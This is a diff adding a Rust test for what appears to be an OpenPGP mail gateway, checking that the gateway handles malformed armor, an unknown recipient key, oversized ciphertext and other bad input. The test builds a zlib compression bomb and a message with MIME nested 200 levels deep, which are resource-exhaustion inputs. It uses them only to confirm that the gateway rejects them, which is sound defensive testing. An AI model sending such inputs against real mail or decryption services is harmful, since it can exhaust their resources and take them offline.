+fn bad_input_gets_a_clear_verdict() {
+    let w = World::new();
+    let sink = SmtpSink::start(&[]);
+    let gw = w.serve(&sink.address(), "max_plaintext = \"8MiB\"\n");
+    let port = gw.port();
+    let alice = "Alice <alice@example.net>";
+    let send_bob = |msg: &str| delivered(port, "alice@example.net", &["bob@example.org"], msg);
+
+    // Malformed armor.
+    let bad = "-----BEGIN PGP MESSAGE-----\n\nhQEMA!!!not base64 at all\n=abcd\n-----END PGP MESSAGE-----";
+    send_bob(&pgp_mime("bad-armor", bad));
+    check(
+        &sink,
+        "bad-armor",
+        &[("encryption", "malformed")],
+        Some("permerror"),
+    );
+
+    // A PKESK for a key nobody here has.
+    let stranger = Gpg::new();
+    stranger.generate("<stranger@example.com>", "default", "default", "never");
+    let armored = stranger.ok_with_input(
+        &["--armor", "--encrypt", "-r", "stranger@example.com"],
+        b"Not for this gateway\n",
+    );
+    send_bob(&pgp_mime("unknown-pkesk", &utf8(armored)));
+    check(&sink, "unknown-pkesk", &[("encryption", "no-key")], None);
+
+    // MIME nested 200 deep.
+    let mut nested = String::new();
+    for i in 0..200 {
+        nested.push_str(&format!(
+            "Content-Type: multipart/mixed; boundary=\"b{i}\"\n\n--b{i}\n"
+        ));
+    }
+    nested.push_str("Content-Type: text/plain\n\ndeep\n");
+    for i in (0..200).rev() {
+        nested.push_str(&format!("--b{i}--\n"));
+    }
+    let msg = crlf(&format!(
+        "From: {alice}\nTo: bob@example.org\nSubject: deep\nX-Test-Case: deep\nMIME-Version: 1.0\n{nested}"
+    ));
+    send_bob(&msg);
+    let copy = copy_for(&sink, "deep", "bob@example.org");
+    let (v, _) = results(&copy);
+    assert_eq!(verdict_of(&v, "encryption"), "none", "{copy}");
+
+    // A compression bomb: 256 MiB of zeros, a few hundred KiB compressed.
+    let zeros = vec![0u8; 256 << 20];
+    let bomb = w.alice.ok_with_input(
+        &[
+            "--armor",
+            "--encrypt",
+            "--compress-algo",
+            "zlib",
+            "-z",
+            "9",
+            "-r",
+            "bob@example.org",
+        ],
+        &zeros,
+    );
+    drop(zeros);
+    send_bob(&pgp_mime("bomb", &utf8(bomb)));
+    let copy = check(&sink, "bomb", &[("encryption", "too-large")], None);
+    assert!(copy.len() < 2 << 20, "no plaintext: {} bytes", copy.len());
+
+    // A 30 MB ciphertext (its plaintext over this gateway's 8 MiB bound).
+    let mut noise = vec![0u8; 22 << 20];
+    let mut x: u64 = 0x2545_f491_4f6c_dd1d;
+    for b in noise.iter_mut() {
+        x ^= x << 13;
+        x ^= x >> 7;
+        x ^= x << 17;
+        *b = (x >> 32) as u8;
+    }
+    let big = w.alice.ok_with_input(
+        &[
+            "--armor",
+            "--encrypt",
+            "--compress-algo",
+            "none",
+            "-r",
+            "bob@example.org",
+        ],
+        &noise,
+    );
+    assert!(big.len() > 29 << 20, "{}", big.len());
+    send_bob(&pgp_mime("big", &utf8(big)));
+    check(&sink, "big", &[("encryption", "too-large")], None);
+}
